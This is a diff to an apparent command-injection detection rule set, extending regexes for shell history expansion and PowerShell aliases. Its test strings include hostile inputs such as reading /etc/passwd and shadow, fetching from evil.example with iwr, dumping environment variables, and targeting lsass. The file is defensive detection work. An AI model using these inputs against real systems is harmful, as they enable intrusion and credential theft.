@@ -351,12 +351,21 @@ literal: !
 literal: .system
 literal: .shell
 literal: $
-regex: (?:^|[;&|\n`(])\s*alias\s+[\w.-]+=['"]?[\w./$-]|(?:^|[;&|\n`])\s*!(?:!|-?\d{1,4})(?::[\w/$^*&-]+)*\s*(?:$|[;&|\n])|(?:^|[\n;&|])\s*\.(?:system|shell)\s+\S|(?:^|[;&|\n])\s*\$?[a-z_]\w{0,15}=['"]?[\w./-]+['"]?\s*;\s*\$\{?[a-z_]\w{0,15}\}?\s*(?:$|[\s;|&])
+# `^old^new` repeats the last command with `old` replaced.
+literal: ^
+regex: (?:^|[;&|\n`(])\s*alias\s+[\w.-]+=['"]?[\w./$-]|(?:^|[;&|\n`])\s*!(?:(?:!|-?\d{1,4}|\?[^?\s]{1,32}\?)(?::[\w/$^*&.-]+)*|[a-z][\w.-]{0,31}(?::[\w/$^*&.-]+)+)\s*(?:$|[;&|\n])|(?:^|[;&|\n])\s*\^[\w./-]{0,31}[a-z][\w./-]{0,31}\^[\w./-]{0,32}\^?\s*(?:$|[;&|\n])|(?:^|[\n;&|])\s*\.(?:system|shell)\s+\S|(?:^|[;&|\n])\s*\$?[a-z_]\w{0,15}=['"]?[\w./-]+['"]?\s*;\s*\$\{?[a-z_]\w{0,15}\}?\s*(?:$|[\s;|&])
 test: alias a=cat; a /etc/passwd
 test: ;alias x='id';x
 test: !-2
 test: !!
 test: !!:s/a/b/
+test: !?passwd?
+test: !cat:s/passwd/shadow/
+test: ;!vi:p
+test: ^passwd^shadow
+pass: !Hello
+pass: 2^10^
+pass: ^_^
 test: ;!12
 test: .system id
 test: x;.system id
@@ -531,14 +540,24 @@ literal: ipmo
 literal: saps
 literal: spps
 literal: sal
+literal: gps
+literal: gsv
 literal: env:
-regex: (?:[;|&]|\$\()\s*(?:(?:iex|iwr|irm|icm|gci|gcm|gwmi|ipmo|saps|spps)(?:\s|$|[;|&()])|sal\s+[\w-]+\s+[\w-]|(?:ls|dir|gci|gc|type|cat|get-childitem|get-content)\s+env:)
+# A pipeline stage filtering or looping with a script block over `$_`, the current object
+# (`| ? {$_.name -eq 'x'}`, `| % {$_}`), is PowerShell's grammar, not a shell's or prose.
+literal: $_
+regex: (?:[;|&]|\$\()\s*(?:(?:iex|iwr|irm|icm|gci|gcm|gwmi|ipmo|saps|spps|gps|gsv)(?:\s|$|[;|&()])|sal\s+[\w-]+\s+[\w-]|(?:ls|dir|gci|gc|type|cat|get-childitem|get-content)\s+env:)|^\s*(?:ls|dir|gci|gc|type|cat|get-childitem|get-content)\s+env:|\|\s*(?:\?|%|where|foreach)\s*\{[^}]{0,100}\$_
 test: ;gci env:
 test: | sal x iex
 test: ;gcm *
 test: | iwr http://evil.example/x
 test: && iex (gc x.ps1)
 test: ; ls env:
+test: gci env: | fl
+test: & gps | ? {$_.name -eq 'lsass'}
+test: x | % { $_.Kill() }
+pass: Use $_ in PHP? No, $_GET
+pass: gps tracker | price
 pass: app=4qgthszz-efopzl8g&cp=none&de=4&seq=1688376436584
 pass: ;route_index_index_a20221020wzjwhb_newsdetail
 pass: text/html;q=0.9,*/*;q=0.8
